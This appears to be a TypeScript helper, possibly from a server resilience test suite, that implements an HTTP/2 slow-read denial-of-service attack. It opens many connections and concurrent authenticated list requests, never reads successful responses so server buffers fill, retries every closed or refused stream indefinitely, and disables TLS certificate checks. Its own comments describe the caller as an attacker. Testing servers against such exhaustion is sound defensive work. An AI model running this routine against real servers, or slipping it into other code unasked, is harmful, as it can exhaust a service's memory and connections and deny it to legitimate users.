import http2 from 'node:http2';

export interface UnreadLists {
  readonly url: string;
  readonly token: string;
  /** At a time, on each connection. */
  readonly lists: number;
  readonly connections: number;
  /** With its query. */
  readonly path: string;
}

export interface UnreadListsRunning {
  /** Answers that have begun, by status. */
  readonly answered: ReadonlyMap<number, number>;
  /** Lists that were asked for so far: each that is over is asked for again. */
  readonly asked: number;
  stop(): void;
}

/** How long an attacker waits before it retries after a refusal, as requested, milliseconds. */
const AGAIN_MS = 1000;
/** What the attacker's own runtime may hold of a connection. */
const CLIENT_MEGABYTES_MAX = 1000;

/**
 * Asks for many lists at a time over HTTP/2 and reads none of the answers; what is refused or cut off is asked for
 * again, until `stop`.
 */
export function holdUnreadLists({ url, token, lists, connections, path }: UnreadLists): UnreadListsRunning {
  const answered = new Map<number, number>();
  let asked = 0;
  let stopped = false;
  const ask = (session: http2.ClientHttp2Session): void => {
    if (stopped || session.destroyed || session.closed) return;
    asked++;
    const stream = session.request({ ':path': path, authorization: `Bearer ${token}` });
    stream.on('error', () => undefined);
    stream.on('response', ({ ':status': status = 0 }) => {
      answered.set(status, (answered.get(status) ?? 0) + 1);
      // A refusal is read, so that its stream ends.
      if (status !== 200) stream.resume();
    });
    stream.on('close', () => void setTimeout(() => ask(session), AGAIN_MS).unref());
  };
  const sessions = Array.from({ length: connections }, () =>
    http2.connect(url, { rejectUnauthorized: false, maxSessionMemory: CLIENT_MEGABYTES_MAX }),
  );
  for (const session of sessions) {
    session.on('error', () => undefined);
    session.once('connect', () => {
      for (let i = 0; i < lists; i++) ask(session);
    });
  }
  return {
    answered,
    get asked() {
      return asked;
    },
    stop() {
      stopped = true;
      for (const session of sessions) session.destroy();
    },
  };
}
